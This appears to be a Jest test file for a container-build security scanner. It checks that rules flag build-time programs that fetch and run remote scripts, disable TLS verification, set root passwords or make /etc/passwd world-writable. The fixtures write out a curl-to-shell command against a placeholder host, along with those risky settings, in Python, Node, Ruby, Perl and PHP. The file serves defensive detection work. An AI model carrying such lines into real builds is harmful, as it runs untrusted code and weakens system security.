import { describe, expect, it } from '@jest/globals';
import { type Files, failuresOf, scanOf } from './failures.ts';

const FETCH = 'curl -fsSL https://x.example.com/i.sh | sh';

const image = (lines: string, files: Files): Files => ({
  Dockerfile: `FROM registry.example.com/python:3.12.1\nWORKDIR /app\nCOPY . /app\n${lines}\nUSER 1000\n`,
  ...files,
});

const PYTHON = `import os\n\n\ndef go():\n    os.system("${FETCH}")\n`;
const NODE = `const { execSync } = require("child_process");\nmodule.exports = () => execSync("${FETCH}");\n`;

/** The command, the program, and a module that runs what it fetches. */
const LOADED: readonly (readonly [string, Files, readonly [string, string]])[] = [
  ['python3 setup.py', { 'setup.py': 'import os, tools as t\nt.go()\n' }, ['tools.py', PYTHON]],
  ['python3 setup.py', { 'setup.py': 'from tools import (\n    stop,\n    go,\n)\ngo()\n' }, ['tools.py', PYTHON]],
  ['python3 setup.py', { 'setup.py': 'from lib import steps\nsteps.go()\n' }, ['lib/steps.py', PYTHON]],
  ['python3 setup.py', { 'setup.py': 'from lib.steps import go\ngo()\n' }, ['lib/steps.py', PYTHON]],
  ['python3 -m lib', { 'lib/__main__.py': 'from .steps import go\ngo()\n' }, ['lib/steps.py', PYTHON]],
  ['python3 -m lib.main', { 'lib/main.py': 'from . import other, steps\nsteps.go()\n' }, ['lib/steps.py', PYTHON]],
  ['python3 setup.py', { 'setup.py': 'import a\n', 'a.py': 'import setup\nimport b\n' }, ['b.py', PYTHON]],
  ['./tools/setup.py', { 'tools/setup.py': '#!/usr/bin/env python3\nimport steps\n' }, ['tools/steps.py', PYTHON]],
  ['node s.js', { 's.js': 'require("./lib/go")();\n' }, ['lib/go.js', NODE]],
  ['node a/s.mjs', { 'a/s.mjs': 'import go from "../lib/go.mjs";\ngo();\n' }, ['lib/go.mjs', NODE]],
  ['node s.js', { 's.js': 'require("./lib")();\n' }, ['lib/index.js', NODE]],
  ['ruby s.rb', { 's.rb': 'require_relative "lib/go"\n' }, ['lib/go.rb', `system("${FETCH}")\n`]],
  ['perl s.pl', { 's.pl': 'use lib "lib";\nuse Go;\n' }, ['lib/Go.pm', `package Go;\nsystem("${FETCH}");\n1;\n`]],
  ['perl s.pl', { 's.pl': 'require "./go.pl";\n' }, ['go.pl', `system("${FETCH}");\n1;\n`]],
  ['php s.php', { 's.php': '<?php\nrequire_once __DIR__ . "/go.php";\n' }, ['go.php', `<?php\nsystem("${FETCH}");\n`]],
];

describe('the modules of a program that a build runs', () => {
  it.each(LOADED.map(([run, files, module]) => [run, module[0], files, module] as const))(
    '%s: %s',
    async (run, _path, files, [path, code]) => {
      const before = image(`RUN ${run}`, { ...files, [path]: '\n' });
      expect(await failuresOf(before, { [path]: code })).toEqual(['remote-script-exec']);
      expect(await failuresOf(before, { [path]: code.replace(FETCH, 'ldconfig') })).toEqual([]);
    },
  );

  it.each([
    ['does not load', 'RUN python3 setup.py', { 'setup.py': 'import os\n', 'tools.py': '' }, 'tools.py', PYTHON],
    ['gets from a package', 'RUN node s.js', { 's.js': 'require("lib");\n' }, 'lib/index.js', NODE],
    ['has as an application', 'CMD ["python3", "setup.py"]', { 'setup.py': 'import tools\n' }, 'tools.py', PYTHON],
  ])('are left alone if it %s them', async (_what, lines, files, path, code) => {
    expect(await failuresOf(image(lines, files), { [path]: code })).toEqual([]);
  });

  it.each([
    [
      'python3 setup.py',
      'setup.py',
      'from util import run\nrun("JOB")\n',
      'util.py',
      'import subprocess\ndef run(cmd):\n    subprocess.run(cmd, shell=True)\n',
    ],
    [
      'node s.js',
      's.js',
      'const { run } = require("./util");\nrun("JOB");\n',
      'util.js',
      'const { execSync } = require("child_process");\nexports.run = (cmd) => execSync(cmd, { stdio: "inherit" });\n',
    ],
    [
      'node s.js',
      's.js',
      'const u = require("./util");\nu.run("JOB");\n',
      'util.js',
      'const { execSync } = require("child_process");\nexports.run = function (cmd) {\n  execSync(cmd);\n};\n',
    ],
    ['ruby s.rb', 's.rb', 'require_relative "util"\nrun("JOB")\n', 'util.rb', 'def run(cmd)\n  system(cmd)\nend\n'],
    [
      'php s.php',
      's.php',
      '<?php\nrequire "/app/util.php";\nrun("JOB");\n',
      'util.php',
      '<?php\nfunction run($c) { system($c); }\n',
    ],
  ])('run what a program gives to their functions: %s', async (run, path, code, module, text) => {
    const files = (job: string): Files => image(`RUN ${run}`, { [path]: code.replace('JOB', job), [module]: text });
    expect(await failuresOf(files('ldconfig'), files(FETCH))).toEqual(['remote-script-exec']);
    const logs = text.replace(
      /subprocess.run\(cmd, shell=True\)|execSync\(cmd[^)]*\)|system\(\$?c(?:md)?\)/,
      'log(cmd)',
    );
    expect(await failuresOf({ ...files('ldconfig'), [module]: logs }, { ...files(FETCH), [module]: logs })).toEqual([]);
  });

  it('check what a program fetches', async () => {
    const fetches = (check: string): string =>
      `import subprocess, urllib.request\n${check}\ndata = urllib.request.urlopen("https://x.example.com/i.sh").read()\nverify(data, "0")\nopen("/i.sh", "wb").write(data)\nsubprocess.run(["sh", "/i.sh"])\n`;
    const own = 'import hashlib\ndef verify(d, w):\n    if hashlib.sha256(d).hexdigest() != w: raise SystemExit(1)\n';
    const base = image('RUN python3 setup.py', { 'setup.py': fetches(own) });
    expect(await failuresOf(base, { 'setup.py': fetches('from checks import verify'), 'checks.py': own })).toEqual([]);
    expect(
      await failuresOf(base, {
        'setup.py': fetches('from checks import verify'),
        'checks.py': 'def verify(d, w): pass\n',
      }),
    ).not.toEqual([]);
  });

  it('have their commands at their lines', async () => {
    const { findings } = await scanOf(
      image('RUN python3 setup.py', { 'setup.py': 'import tools\n', 'tools.py': PYTHON }),
    );
    const [first] = findings.filter(({ ruleId }) => ruleId === 'remote-script-exec');
    expect(first?.span.file.path).toBe('tools.py');
    expect(PYTHON.slice(first?.span.start, first?.span.end)).toBe(`os.system("${FETCH}")`);
  });
});

const APT = 'Acquire::https::Verify-Peer "false";';
const PIP = '[global]\\ntrusted-host = pypi.example.com\\n';
const TLS = ['tls-verify-disabled'];
const PASSWORD = ['password-set-in-image'];

/** The language, the code, and what it does. */
const SETTINGS: readonly (readonly [string, string, readonly string[]])[] = [
  ['python3', `open("/etc/apt/apt.conf.d/99x", "w").write('${APT}\\n')`, TLS],
  ['python3', `with open("/etc/apt/apt.conf.d/99x", mode="w") as f:\n    f.write('${APT}\\n')`, TLS],
  [
    'python3',
    `f = open("/etc/pip.conf", "a", encoding="utf-8")\nf.write("[global]\\n")\nf.write("trusted-host = a.example.com\\n")`,
    TLS,
  ],
  ['python3', `from pathlib import Path\nPath("/etc/pip.conf").write_text("${PIP}")`, TLS],
  ['python3', 'import os\nos.environ["NODE_TLS_REJECT_UNAUTHORIZED"] = "0"\nos.system("npm ci")', TLS],
  ['python3', 'import os\nos.environ.setdefault("GIT_SSL_NO_VERIFY", "1")', TLS],
  ['python3', 'import os\nos.environ.update(PYTHONHTTPSVERIFY="0")', TLS],
  ['python3', 'import os\nos.putenv("PYTHONHTTPSVERIFY", "0")', TLS],
  [
    'python3',
    'import os, subprocess\nsubprocess.run("npm ci", shell=True, env={**os.environ, "NODE_TLS_REJECT_UNAUTHORIZED": "0"})',
    TLS,
  ],
  [
    'python3',
    'import os, subprocess\nsubprocess.run(["npm", "ci"], env=dict(os.environ, NODE_TLS_REJECT_UNAUTHORIZED="0"))',
    TLS,
  ],
  ['python3', 'import subprocess\nsubprocess.run(["chpasswd"], input=b"root:root")', PASSWORD],
  [
    'python3',
    'import subprocess\nsubprocess.Popen(["chpasswd"], stdin=subprocess.PIPE).communicate(b"root:root")',
    PASSWORD,
  ],
  ['node', `require("fs").writeFileSync("/etc/apt/apt.conf.d/99x", '${APT}');`, TLS],
  ['node', `const fs = require("fs");\nfs.appendFileSync("/etc/pip.conf", "${PIP}");`, TLS],
  ['node', 'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0";', TLS],
  ['node', 'process.env["GIT_SSL_NO_VERIFY"] = 1;', TLS],
  [
    'node',
    'const { execSync } = require("child_process");\nexecSync("npm ci", { env: { ...process.env, NODE_TLS_REJECT_UNAUTHORIZED: "0" } });',
    TLS,
  ],
  ['node', 'const { execSync } = require("child_process");\nexecSync("chpasswd", { input: "root:root" });', PASSWORD],
  ['ruby', `File.write("/etc/apt/apt.conf.d/99x", '${APT}')`, TLS],
  ['ruby', `File.open("/etc/apt/apt.conf.d/99x", "w") do |f|\n  f.puts '${APT}'\nend`, TLS],
  ['ruby', 'ENV["GIT_SSL_NO_VERIFY"] = "1"\nsystem("bundle install")', TLS],
  ['perl', '$ENV{GIT_SSL_NO_VERIFY} = "1";\nsystem("git fetch");', TLS],
  ['perl', `open(my $fh, ">", "/etc/apt/apt.conf.d/99x") or die;\nprint $fh '${APT}';\nclose $fh;`, TLS],
  ['php', `<?php\nfile_put_contents("/etc/apt/apt.conf.d/99x", '${APT}');`, TLS],
  ['php', '<?php\nputenv("GIT_SSL_NO_VERIFY=1");', TLS],
];

describe('what a program does itself in a build', () => {
  it.each(SETTINGS)('counts like a command: %s: %s', async (language, code, expected) => {
    const before = image(`RUN ${language} setup`, { setup: '\n' });
    expect(await failuresOf(before, { setup: `${code}\n` })).toEqual(expected);
    const inside = (text: string): Files => image(`RUN <<E\n${language} - <<'X'\n${text}\nX\nE`, {});
    if (language !== 'php') expect(await failuresOf(inside('1;'), inside(code))).toEqual(expected);
  });

  it.each([
    ['mode of a file', 'python3', 'import os\nos.chmod("/etc/passwd", 0o777)', 'chmod-world-writable'],
    ['mode of a path', 'python3', 'from pathlib import Path\nPath("/etc/passwd").chmod(0o777)', 'chmod-world-writable'],
    ['mode of Node', 'node', 'require("fs").chmodSync("/etc/passwd", 0o777);', 'chmod-world-writable'],
    ['mode of Ruby', 'ruby', 'File.chmod(0777, "/etc/passwd")', 'chmod-world-writable'],
    ['mode of Perl', 'perl', 'chmod 0777, "/etc/passwd";', 'chmod-world-writable'],
  ])('includes the %s', async (_what, language, code, rule) => {
    const { findings } = await scanOf(image(`RUN ${language} setup`, { setup: `${code}\n` }));
    expect(findings.map(({ ruleId }) => ruleId)).toContain(rule);
  });

  it.each([
    ['python3', 'open("/etc/motd", "w").write("hello\\n")'],
    ['python3', 'text = open("/etc/pip.conf", "r").read()\nprint(text)'],
    ['python3', 'import os\nos.environ["NODE_ENV"] = "production"'],
    ['python3', 'import os\nif os.environ["PYTHONHTTPSVERIFY"] == "0":\n    raise SystemExit(1)'],
    ['python3', 'import subprocess\nsubprocess.run(["sort"], input=b"b\\na")'],
    ['node', 'require("fs").writeFileSync("dist/a.json", JSON.stringify({ a: 1 }));'],
    ['node', 'process.env.NODE_ENV = "production";'],
    ['node', 'if (process.env.NODE_TLS_REJECT_UNAUTHORIZED === "0") throw new Error("no");'],
    ['ruby', 'File.write("a.txt", "a")'],
  ])('is harmless: %s: %s', async (language, code) => {
    expect(await failuresOf(image(`RUN ${language} setup`, { setup: '\n' }), { setup: `${code}\n` }, 4)).toEqual([]);
  });
});
